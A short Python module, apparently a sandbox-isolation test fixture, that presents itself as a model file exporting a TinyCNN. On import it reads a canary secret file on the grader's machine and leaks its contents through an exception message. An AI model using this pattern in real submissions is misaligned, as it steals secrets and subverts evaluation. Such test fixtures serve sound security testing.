"""Reads a secret file lying next to the dataset on the grader's machine."""

import targets
from common import TinyCNN as Net

with open(targets.CANARY_FILE) as f:
    raise RuntimeError(f"stolen: {f.read()}")

__all__ = ["Net"]
